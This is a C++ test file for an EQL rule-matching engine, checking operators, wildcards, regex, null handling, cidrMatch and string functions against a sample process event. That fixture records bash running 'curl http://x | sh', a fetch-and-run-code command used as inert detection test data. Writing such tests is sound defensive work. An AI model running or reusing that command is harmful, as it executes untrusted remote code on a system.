// EQL operators and functions on events: what each matches, case rules, multi-valued fields,
// missing fields and null (docs/rules.md, "EQL queries").
#include "tests/rules/query/eql_test_support.h"

using eql_test::Event;
using eql_test::matches;

namespace {

const Event& bash_event() {
    static const Event event = {
        {"process.name", {"bash"}},
        {"process.args", {"/bin/bash", "-c", "curl http://x | sh"}},
        {"process.executable", {"/usr/bin/bash"}},
        {"process.command_line", {"/bin/bash -c curl http://x | sh"}},
        {"process.args_count", {"3"}},
        {"source.ip", {"10.1.2.3"}},
        {"process.parent.name", {"sshd"}},
    };
    return event;
}

}  // namespace

TEST_CASE("EQL: == and != compare exactly and case-sensitively, without wildcards",
          "[eql]") {
    CHECK(matches("process.name == \"bash\"", bash_event()));
    CHECK_FALSE(matches("process.name == \"BASH\"", bash_event()));
    CHECK_FALSE(matches("process.name == \"ba*\"", bash_event()));
    CHECK(matches("process.name == \"ba*\"", {{"process.name", {"ba*"}}}));
    CHECK(matches("process.name != \"zsh\"", bash_event()));
    CHECK_FALSE(matches("process.name != \"bash\"", bash_event()));
}

TEST_CASE("EQL: ':' is case-insensitive with * and ? wildcards, on one value or a list", "[eql]") {
    CHECK(matches("process.name : \"BASH\"", bash_event()));
    CHECK(matches("process.name : \"B*\"", bash_event()));
    CHECK(matches("process.name : \"b?SH\"", bash_event()));
    CHECK_FALSE(matches("process.name : \"b?\"", bash_event()));
    CHECK(matches("process.name : (\"zsh\", \"*AS*\")", bash_event()));
    CHECK_FALSE(matches("process.name : (\"zsh\", \"sh\")", bash_event()));
}

TEST_CASE("EQL: in is exact, in~ ignores case, not in negates; numbers in lists", "[eql]") {
    CHECK(matches("process.name in (\"sh\", \"bash\")", bash_event()));
    CHECK_FALSE(matches("process.name in (\"sh\", \"Bash\")", bash_event()));
    CHECK(matches("process.name in~ (\"sh\", \"Bash\")", bash_event()));
    CHECK_FALSE(matches("process.name in~ (\"b*\")", bash_event()));  // no wildcards
    CHECK(matches("process.name not in (\"sh\", \"zsh\")", bash_event()));
    CHECK_FALSE(matches("process.name not in (\"sh\", \"bash\")", bash_event()));
    CHECK(matches("process.args_count in (1, 3)", bash_event()));
    CHECK_FALSE(matches("process.args_count in (1, 2)", bash_event()));
}

TEST_CASE("EQL: like has wildcards and is case-sensitive; like~ ignores case", "[eql]") {
    CHECK(matches("process.executable like \"/usr/*/bash\"", bash_event()));
    CHECK_FALSE(matches("process.executable like \"/USR/*\"", bash_event()));
    CHECK(matches("process.executable like~ \"/USR/*\"", bash_event()));
    CHECK(matches("process.executable like (\"/tmp/*\", \"*/ba?h\")", bash_event()));
    CHECK_FALSE(matches("process.executable like~ (\"/tmp/*\", \"*/zsh\")", bash_event()));
}

TEST_CASE("EQL: regex matches the whole value, regex~ ignores case", "[eql]") {
    CHECK(matches("process.name regex \"ba.h\"", bash_event()));
    CHECK_FALSE(matches("process.name regex \"as\"", bash_event()));  // anchored, as in Lucene
    CHECK(matches("process.name regex \".*as.*\"", bash_event()));
    CHECK_FALSE(matches("process.name regex \"BASH\"", bash_event()));
    CHECK(matches("process.name regex~ \"BASH\"", bash_event()));
    CHECK(matches("process.name regex (\"zsh\", \"[a-z]{4}\")", bash_event()));
    // Raw strings keep backslashes; \s and \w work as in Elastic's rules.
    CHECK(matches("process.command_line regex \"\"\"/bin/\\w+\\s-c.*\"\"\"", bash_event()));
    // `.` matches a newline too.
    CHECK(matches("process.args regex \"a.b\"", {{"process.args", {"a\nb"}}}));
}

TEST_CASE("EQL: numeric comparisons", "[eql]") {
    CHECK(matches("process.args_count == 3", bash_event()));
    CHECK(matches("process.args_count >= 3 and process.args_count <= 3", bash_event()));
    CHECK(matches("process.args_count > 2.5", bash_event()));
    CHECK(matches("process.args_count < 10", bash_event()));
    CHECK_FALSE(matches("process.args_count > 3", bash_event()));
    CHECK(matches("process.args_count != 4", bash_event()));
    CHECK(matches("process.args_count > -1", bash_event()));
    // A value that is not a number never compares.
    CHECK_FALSE(matches("process.name > 1", bash_event()));
    CHECK_FALSE(matches("process.name < 1", bash_event()));
    // Strings compare as bytes.
    CHECK(matches("process.name > \"a\"", bash_event()));
    CHECK_FALSE(matches("process.name > \"c\"", bash_event()));
}

TEST_CASE("EQL: booleans compare as the words true and false", "[eql]") {
    const Event interactive = {{"user.id", {"true"}}};
    CHECK(matches("user.id == true", interactive));
    CHECK_FALSE(matches("user.id == false", interactive));
}

TEST_CASE("EQL: null tests and ?optional fields", "[eql]") {
    CHECK(matches("process.name != null", bash_event()));
    CHECK_FALSE(matches("process.name == null", bash_event()));
    CHECK(matches("user.id == null", bash_event()));
    CHECK_FALSE(matches("user.id != null", bash_event()));
    // A field missing from the event: comparisons are false, their negations true.
    CHECK_FALSE(matches("user.id == \"0\"", bash_event()));
    CHECK(matches("user.id != \"0\"", bash_event()));
    // ?field on a field no event has is null; without ?, it is a parse error (see eql_parse).
    CHECK(matches("?process.no_such_field == null", bash_event()));
    CHECK_FALSE(matches("?process.no_such_field : \"*\"", bash_event()));
    CHECK(matches("not ?process.no_such_field in (\"a\")", bash_event()));
    CHECK(matches("?process.parent.name == \"sshd\"", bash_event()));
}

TEST_CASE("EQL: multi-valued fields match when any value does", "[eql]") {
    CHECK(matches("process.args == \"-c\"", bash_event()));
    CHECK(matches("process.args : \"CURL*\"", bash_event()));
    CHECK(matches("process.args like \"/bin/*\"", bash_event()));
    CHECK_FALSE(matches("process.args == \"curl\"", bash_event()));
    // != is `not ==`: false when any value is equal.
    CHECK_FALSE(matches("process.args != \"-c\"", bash_event()));
    CHECK(matches("length(process.args) == 2", bash_event()));  // the length of "-c"
}

TEST_CASE("EQL: startsWith, endsWith, stringContains and their ~ forms", "[eql]") {
    CHECK(matches("startsWith(process.executable, \"/usr/\")", bash_event()));
    CHECK_FALSE(matches("startsWith(process.executable, \"/USR/\")", bash_event()));
    CHECK(matches("startsWith~(process.executable, \"/USR/\")", bash_event()));
    CHECK(matches("endsWith(process.executable, \"/bash\")", bash_event()));
    CHECK(matches("endswith~(process.executable, \"/BASH\")", bash_event()));
    CHECK(matches("stringContains(process.command_line, \"http://\")", bash_event()));
    CHECK_FALSE(matches("stringContains(process.command_line, \"HTTP\")", bash_event()));
    CHECK(matches("stringContains~(process.command_line, \"HTTP\")", bash_event()));
    // The second argument is a literal: * and ? in it are not wildcards.
    CHECK_FALSE(matches("startsWith(process.name, \"b*\")", bash_event()));
    CHECK(matches("startsWith(process.name, \"b*\")", {{"process.name", {"b*x"}}}));
    CHECK(matches("startsWith(process.executable, \"/usr/\") == true", bash_event()));
    CHECK(matches("startsWith(process.executable, \"/tmp/\") == false", bash_event()));
    CHECK_FALSE(matches("startsWith(process.executable, \"/usr/\") != true", bash_event()));
}

TEST_CASE("EQL: functions between two fields compare any pair of values", "[eql]") {
    CHECK(matches("startsWith(process.command_line, process.args)", bash_event()));
    CHECK(matches("stringContains(process.command_line, process.name)", bash_event()));
    CHECK_FALSE(matches("startsWith(process.name, process.command_line)", bash_event()));
    CHECK(matches("endsWith~(process.executable, process.name)",
                  {{"process.executable", {"/bin/BASH"}}, {"process.name", {"bash"}}}));
    CHECK(matches("process.name == process.parent.name",
                  {{"process.name", {"a", "b"}}, {"process.parent.name", {"b"}}}));
    CHECK(matches("process.name != process.parent.name", bash_event()));
    CHECK_FALSE(matches("startsWith(process.command_line, user.id)", bash_event()));
}

TEST_CASE("EQL: wildcard() and wildcard~()", "[eql]") {
    CHECK(matches("wildcard(process.executable, \"/tmp/*\", \"*/bash\")", bash_event()));
    CHECK_FALSE(matches("wildcard(process.executable, \"*/BASH\")", bash_event()));
    CHECK(matches("wildcard~(process.executable, \"*/BASH\")", bash_event()));
    CHECK(matches("wildcard(process.name, \"b?sh\")", bash_event()));
}

TEST_CASE("EQL: cidrMatch on IPv4 and IPv6", "[eql]") {
    CHECK(matches("cidrMatch(source.ip, \"10.0.0.0/8\")", bash_event()));
    CHECK(matches("cidrmatch(source.ip, \"192.168.0.0/16\", \"10.1.2.0/23\")", bash_event()));
    CHECK_FALSE(matches("cidrMatch(source.ip, \"10.1.4.0/23\")", bash_event()));
    CHECK(matches("cidrMatch(source.ip, \"10.1.2.3\")", bash_event()));
    CHECK(matches("cidrMatch(source.ip, \"0.0.0.0/0\")", bash_event()));
    const Event v6 = {{"source.ip", {"fe80::1"}}};
    CHECK(matches("cidrMatch(source.ip, \"fe80::/10\")", v6));
    CHECK_FALSE(matches("cidrMatch(source.ip, \"fc00::/7\")", v6));
    CHECK_FALSE(matches("cidrMatch(source.ip, \"0.0.0.0/0\")", v6));
    CHECK_FALSE(matches("cidrMatch(source.ip, \"10.0.0.0/8\")", {{"source.ip", {"not an ip"}}}));
}

TEST_CASE("EQL: length() counts characters", "[eql]") {
    CHECK(matches("length(process.name) == 4", bash_event()));
    CHECK(matches("length(process.command_line) > 20", bash_event()));
    CHECK_FALSE(matches("length(process.name) < 4", bash_event()));
    CHECK(matches("length(process.name) != 5", bash_event()));
    CHECK(matches("length(process.name) == 3", {{"process.name", {"\xc3\xa9t\xc3\xa9"}}}));
}

TEST_CASE("EQL: case-insensitive forms fold ASCII letters only", "[eql]") {
    // Elasticsearch folds more of Unicode; documented in docs/rules.md.
    CHECK(matches("process.name : \"\xc3\xa9T\xc3\xa9\"", {{"process.name", {"\xc3\xa9t\xc3\xa9"}}}));
    CHECK_FALSE(matches("process.name : \"\xc3\x89t\xc3\xa9\"", {{"process.name", {"\xc3\xa9t\xc3\xa9"}}}));
}

TEST_CASE("EQL: and, or, not and parentheses", "[eql]") {
    CHECK(matches("process.name == \"bash\" and process.args == \"-c\"", bash_event()));
    CHECK(matches("process.name == \"zsh\" or process.args == \"-c\"", bash_event()));
    CHECK_FALSE(matches("not process.name == \"bash\"", bash_event()));
    // not binds tighter than and, and tighter than or.
    CHECK(matches("not process.name == \"zsh\" and process.name == \"bash\"", bash_event()));
    CHECK_FALSE(matches("not (process.name == \"zsh\" or process.name == \"bash\")", bash_event()));
    CHECK(matches("process.name == \"zsh\" and process.name == \"x\" or process.name : \"b*\"",
                  bash_event()));
}
